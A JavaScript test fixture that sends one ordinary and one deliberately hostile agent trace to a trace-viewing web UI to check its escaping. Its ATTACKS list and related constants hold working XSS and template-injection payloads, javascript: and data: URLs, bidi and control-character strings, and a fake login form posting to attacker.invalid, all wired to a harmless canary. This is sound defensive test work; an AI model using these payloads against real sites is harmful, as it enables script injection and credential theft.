// The traces that the browser looks at: an ordinary one, and one in which every text is an attack.
import { newTraceId, send, span } from './otlp_json.mjs';

export const PROMPT = 'Why did the nightly import fail?';
export const ANSWER = 'The disk was full at 02:14.\nFree 3 GB and run it again.';
export const DOCUMENT = 'Imports stop when less than 1 GB is free.';

// Returns the trace's id and its spans by name.
export async function sendOrdinary(base, project, name = 'agent.run') {
  const traceId = newTraceId();
  const startMs = Date.now() - 10_000;
  const make = (fields) => span({ traceId, startMs, ...fields });
  const agent = make({ name, from: 0, to: 4_000, attributes: {
    'openinference.span.kind': 'AGENT', 'input.value': PROMPT, 'output.value': ANSWER, 'session.id': 's-1', 'user.id': 'u-1',
  } });
  const tool = make({ name: 'tool.search', parent: agent, from: 100, to: 900, attributes: {
    'openinference.span.kind': 'TOOL', 'tool.name': 'search', 'input.value': '{"q": "import"}', 'output.value': '1 hit',
  } });
  const retrieval = make({ name: 'retrieval', parent: tool, from: 150, to: 800, attributes: {
    'openinference.span.kind': 'RETRIEVER', 'input.value': 'import',
    'retrieval.documents': JSON.stringify([{ id: 'runbook-4', score: 0.9125, text: DOCUMENT }]),
  } });
  const llm = make({ name: 'llm.chat', parent: agent, from: 1_000, to: 3_900, attributes: {
    'openinference.span.kind': 'LLM', 'llm.model_name': 'browser-model-1',
    'llm.input_messages': JSON.stringify([{ role: 'user', content: PROMPT }]),
    'llm.output_messages': JSON.stringify([{ role: 'assistant', content: ANSWER }]),
    'llm.token_count.prompt': 1_200, 'llm.token_count.completion': 150,
  } });
  await send(base, { 'service.name': 'browser', 'openinference.project.name': project }, { name: 'ci' }, [agent, tool, retrieval, llm]);
  return { traceId, agent, tool, retrieval, llm };
}

// Anything of this that runs sets the canary or opens a dialog.
const ATTACKS = [
  `<script>window.__pwned = 'script'; alert(1)</script>`,
  `"><img src=x onerror="window.__pwned = 'onerror'; alert(2)">`,
  `' onmouseover='window.__pwned = "attribute"' autofocus onfocus='window.__pwned = "focus"`,
  `<svg onload="window.__pwned = 'svg'"><animate onbegin="window.__pwned = 'begin'" attributeName="x"/></svg>`,
  `</title></textarea></style></pre></bdi><iframe srcdoc="<script>parent.__pwned = 'frame'</script>"></iframe>`,
  `<a href="javascript:window.__pwned='link'">click</a><base href="https://attacker.invalid/">`,
  `<form action="https://attacker.invalid/"><button>log in</button></form><meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">`,
  `{{constructor.constructor('window.__pwned=1')()}} \${window.__pwned=1} {% raw %}`,
];
// Overrides, isolates and marks of direction; NUL, escape sequences, C1 controls, line separators, a lone surrogate's stand-in.
const BIDI = '\u202Ereversed\u202D \u2067isolate \u2066open \u200F\u200E\u061C \u202A\u202B';
const CONTROLS = 'nul\u0000bell\u0007esc\u001B[31mred cr\rdel\u007F c1\u0085\u009B31m ls\u2028ps\u2029 bom\uFEFF zw\u200B';
// Pages cut names, so each text begins with another attack, and the marks follow before the cut.
const hostileText = (number) => {
  const attacks = ATTACKS.map((_, at) => ATTACKS[(at + number) % ATTACKS.length]);
  return [attacks[0], BIDI, CONTROLS, ...attacks.slice(1)].join('\n');
};
const HOSTILE = hostileText(0);
export const HOSTILE_PROJECT = `"><img src=x onerror=window.__pwned='project'>/..?a=b#c&%2e'\u202E`;
const JAVASCRIPT = `javascript:window.__pwned='url'//`;
const SVG_IMAGE = `data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="top.__pwned='image'"/>`)}`;
const HTML_IMAGE = `data:text/html,<script>top.__pwned='html image'</script>`;
const BROKEN_IMAGE = `data:image/png;base64,AA" onerror="window.__pwned='png'`;

export async function sendHostile(base) {
  const traceId = newTraceId();
  const startMs = Date.now() - 5_000;
  const texts = Object.fromEntries(ATTACKS.map((attack, number) => [`${attack} ${number}`, attack]));
  const common = { 'session.id': HOSTILE, 'user.id': HOSTILE, 'tag.tags': [HOSTILE, HOSTILE], metadata: JSON.stringify({ [HOSTILE]: HOSTILE }), ...texts };
  const make = (kind, parent, from, attributes) => span({
    traceId, startMs, parent, from, to: 4_000 - from, name: `${kind.slice(0, 9)} ${hostileText(from / 100)}`,
    attributes: { 'openinference.span.kind': kind, 'input.value': HOSTILE, 'output.value': HOSTILE, ...common, ...attributes },
    events: [
      { name: HOSTILE, at: from, attributes: { [HOSTILE]: HOSTILE } },
      { name: 'exception', at: from, attributes: { 'exception.type': HOSTILE, 'exception.message': HOSTILE, 'exception.stacktrace': HOSTILE } },
    ],
    links: [{ traceId, spanId: '00f067aa0ba902b7', attributes: { [HOSTILE]: HOSTILE } }],
    status: { code: 2, message: HOSTILE },
  });
  const image = (url) => ({ type: 'image_url', image_url: { url } });
  const messages = (role) => JSON.stringify([
    { role, name: HOSTILE, content: [{ type: 'text', text: HOSTILE }, ...[JAVASCRIPT, SVG_IMAGE, HTML_IMAGE, BROKEN_IMAGE].map(image)] },
    { role: HOSTILE, content: HOSTILE },
    { role: 'assistant', content: null, finish_reason: HOSTILE, tool_calls: [{ id: HOSTILE, type: 'function', function: { name: HOSTILE, arguments: JSON.stringify({ [HOSTILE]: HOSTILE }) } }] },
    { role: 'tool', tool_call_id: HOSTILE, content: HOSTILE },
    { role: 'assistant', content: [{ type: 'thinking', thinking: HOSTILE }, { type: HOSTILE, value: HOSTILE }] },
  ]);
  const documents = JSON.stringify([{ id: HOSTILE, score: 0.5, text: HOSTILE, metadata: { [HOSTILE]: HOSTILE, url: JAVASCRIPT } }]);
  const agent = make('AGENT', undefined, 0, { 'agent.name': HOSTILE });
  const spans = [
    agent,
    make('LLM', agent, 100, {
      'llm.model_name': HOSTILE, 'llm.provider': HOSTILE, 'llm.input_messages': messages('user'), 'llm.output_messages': messages('assistant'),
      'llm.invocation_parameters': JSON.stringify({ [HOSTILE]: HOSTILE }), 'llm.finish_reason': HOSTILE,
      'llm.tools': JSON.stringify([{ type: 'function', function: { name: HOSTILE, description: HOSTILE, parameters: { [HOSTILE]: HOSTILE } } }]),
      'llm.prompt_template.template': HOSTILE, 'llm.prompt_template.version': HOSTILE, 'llm.prompt_template.variables': JSON.stringify({ [HOSTILE]: HOSTILE }),
    }),
    make('RETRIEVER', agent, 200, { 'retrieval.documents': documents }),
    make('RERANKER', agent, 300, { 'reranker.input_documents': documents, 'reranker.output_documents': documents, 'reranker.query': HOSTILE }),
    make('TOOL', agent, 400, { 'tool.name': HOSTILE, 'tool.description': HOSTILE, 'tool.parameters': HOSTILE, 'tool.id': HOSTILE }),
    make('EMBEDDING', agent, 500, { 'embedding.model_name': HOSTILE, 'embedding.embeddings': JSON.stringify([{ text: HOSTILE, vector: [0.1, 0.2] }]) }),
    make(HOSTILE, agent, 600, {}),
  ];
  const resource = { 'service.name': HOSTILE, 'openinference.project.name': HOSTILE_PROJECT, [HOSTILE]: HOSTILE };
  await send(base, resource, { name: HOSTILE, version: HOSTILE }, spans);
  return { traceId, spans };
}
